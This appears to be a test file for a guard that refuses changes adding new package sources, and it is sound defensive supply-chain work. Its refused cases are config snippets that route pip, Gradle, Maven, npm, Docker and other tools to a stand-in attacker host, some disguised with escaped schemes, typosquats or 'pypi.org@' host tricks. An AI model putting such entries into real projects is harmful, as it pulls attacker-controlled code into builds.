import { describe, expect, test } from "vitest";
import { fileOf, taskOf, told } from "./guarded-change.ts";

const EVIL = "https://packages.evil.example/simple";

describe("a new source of packages is refused", () => {
  test.each([
    ["pyproject.toml", `[[tool.uv.index]]\nurl = "${EVIL}"\ndefault = true\n`],
    ["pyproject.toml", `[tool.uv]\nextra-index-url = [\n  "${EVIL}",\n]\n`],
    ["pyproject.toml", `[tool]\nuv.index-url = "${EVIL}"\n`],
    ["pyproject.toml", `[tool.uv.sources]\nrequests = { url = "${EVIL}/requests.whl" }\n`],
    ["pyproject.toml", `["tool".uv.sources]\nrequests = { git = "git@evil.example:a/b" }\n`],
    ["pyproject.toml", `[[tool.poetry.source]]\nname = "x"\nurl = "${EVIL}"\n`],
    ["pyproject.toml", `[[tool.pdm.source]]\nurl = "\\u0068ttps://packages.evil.example"\n`],
    ["Pipfile", `[[source]]\nurl = "${EVIL}"\n`],
    ["pixi.toml", `[workspace]\nchannels = ["${EVIL}"]\n`],
    ["build.gradle", `/* x */ apply from: "${EVIL}"\n`],
    ["app/build.gradle", `repositories {\n  maven { url "${EVIL}" }\n}\n`],
    ["app/build.gradle", `def place = "https://" + host\n`],
    ["build.gradle.kts", `repositories {\n  maven("${EVIL}")\n}\n`],
    ["settings.gradle", `pluginManagement { repositories { maven { url = uri('${EVIL}') } } }\n`],
    ["build.sbt", `resolvers += "x" at "${EVIL}"\n`],
    ["pom.xml", `<repositories>\n<repository>\n<id>x</id>\n<url>${EVIL}</url>\n</repository>\n</repositories>\n`],
    ["pom.xml", `<pluginRepository><url>&#104;ttps://packages.evil.example</url></pluginRepository>\n`],
    ["a.csproj", `<Project><RestoreSources>${EVIL}</RestoreSources></Project>\n`],
    ["pnpm-workspace.yaml", `overrides:\n  lodash: ${EVIL}/lodash.tgz\n`],
    ["pnpm-workspace.yaml", `overrides:\n  lodash: npm:lodahs@1.0.0\n`],
    ["pnpm-workspace.yaml", `catalog:\n  'lodash': evil/lodash#main\n`],
    ["deno.json", `{ "imports": { "std": "${EVIL}/mod.ts" } }\n`],
    ["import_map.json", `{ "imports": { "std": "https:\\/\\/packages.evil.example/mod.ts" } }\n`],
    ["package.json", `{ "packageManager": "pnpm@${EVIL}/pnpm.tgz" }\n`],
    ["package.json", `{ "publishConfig": { "registry": "${EVIL}" } }\n`],
    ["compose.yaml", "services:\n  db:\n    image: images.evil.example/postgres:17\n"],
    ["docker-compose.prod.yml", "services: { db: { image: 'evil:5000/postgres' } }\n"],
    ["compose.yml", "services:\n  db:\n    build: https://evil.example/db.git\n"],
    ["pubspec.yaml", `dependencies:\n  http:\n    hosted:\n      name: http\n      url: ${EVIL}\n`],
    ["Podfile", `source '${EVIL}'\n`],
    ["chart/Chart.yaml", `dependencies:\n  - name: x\n    repository: ${EVIL}\n`],
    ["flake.nix", '{ inputs.x.url = "github:evil/x"; }\n'],
  ])("in %s: %j", (path, after) => {
    expect(told([fileOf(path, "\n", after)])).toContain(`package-source refuse ${path}`);
  });
});

describe("it is no new source", () => {
  const uv = (url: string) => `[[tool.uv.index]]\nurl = "${url}"\n`;
  const passes = (path: string, before: string, after: string, title = "Mend it") =>
    told([fileOf(path, before, after)], { task: taskOf({ title }) }).filter((one) => one.startsWith("package-source"));

  test.each([
    ["pyproject.toml", '[project.urls]\nHomepage = "https://project.example"\n'],
    ["pyproject.toml", '[project]\nname = "x"\nurls = { Source = "https://project.example" }\n'],
    ["pyproject.toml", '[tool.poetry]\nhomepage = "https://project.example"\n'],
    ["pyproject.toml", '[tool.towncrier]\nissue_format = "https://project.example/{issue}"\n'],
    ["pyproject.toml", "# see https://project.example\n[tool.uv]\n# and https://project.example\npackage = true\n"],
    ["pyproject.toml", uv("https://pypi.org/simple")],
    ["package.json", '{ "homepage": "https://project.example", "bugs": { "url": "https://project.example/bugs" } }\n'],
    ["package.json", '{ "packageManager": "pnpm@9.1.0", "proxy": "http://localhost:3000" }\n'],
    ["pom.xml", "<project><url>https://project.example</url><scm><url>https://project.example</url></scm></project>\n"],
    ["build.gradle", "// https://project.example\nrepositories { maven { url 'https://repo1.maven.org/maven2' } }\n"],
    ["compose.yaml", "services:\n  db:\n    image: postgres:17\n  web:\n    image: company/web:1.2\n"],
    ["pnpm-workspace.yaml", "packages:\n  - packages/*\npatchedDependencies:\n  a@1.0.0: patches/a.patch\n"],
    ["deno.json", '{ "$schema": "https://project.example/schema.json", "imports": { "a": "jsr:@std/a@1" } }\n'],
    ["pixi.toml", '[workspace]\nhomepage = "https://project.example"\n'],
    ["docs/install.md", `Use ${EVIL}\n`],
    ["test/fixtures/pyproject.toml", uv(EVIL)],
  ])("in %s: %j", (path, after) => {
    expect(passes(path, "\n", after)).toEqual([]);
  });

  test("what stood there before, in another place or version", () => {
    expect(passes("pyproject.toml", uv(EVIL), `[project]\nname = "x"\n${uv(EVIL)}`)).toEqual([]);
    expect(passes("deno.json", `{"a": "${EVIL}/a@1.0.0"}\n`, `{"a": "${EVIL}/a@1.1.0"}\n`)).toEqual([]);
  });

  test("but another address of a host that was there before is one", () => {
    expect(passes("pyproject.toml", uv("https://host.example/good"), uv("https://host.example/evil"))).toEqual([
      "package-source refuse pyproject.toml",
    ]);
  });

  test("and a host that only begins as a registry does, or stands behind its name, is one", () => {
    for (const url of ["https://pypi.org.evil.example/simple", "https://pypi.org@evil.example/simple"])
      expect(passes("pyproject.toml", "\n", uv(url))).toEqual(["package-source refuse pyproject.toml"]);
  });

  test("where the task names the host it passes, and where it names the file people look at it", () => {
    expect(passes("pyproject.toml", "\n", uv(EVIL), "Take packages from packages.evil.example")).toEqual([]);
    expect(passes("pyproject.toml", "\n", uv(EVIL), "Move pyproject.toml to uv")).toEqual([
      "package-source draft pyproject.toml",
    ]);
  });
});
